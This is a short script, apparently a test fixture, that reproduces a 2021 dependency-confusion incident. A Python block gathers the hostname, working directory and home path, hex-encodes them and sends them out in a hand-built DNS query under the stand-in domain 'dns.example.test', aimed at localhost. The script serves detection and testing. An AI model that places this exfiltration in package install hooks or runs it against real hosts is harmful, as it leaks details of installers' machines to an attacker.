# incident: dependency confusion (2021): preinstall tells by DNS where it was installed
# finding: dns-exfiltration
# needs: python3
python3 - <<'PY'
import os, socket
info = (os.uname().nodename + "|" + os.getcwd() + "|" + os.environ["HOME"]).encode().hex()
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.connect(("127.0.0.1", 53))
labels = [info[i:i + 50] for i in range(0, 100, 50)] + ["dns", "example", "test"]
name = b"".join(bytes([len(p)]) + p.encode() for p in labels) + b"\0"
s.send(b"\x00\x01\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00" + name + b"\x00\x01\x00\x01")
PY
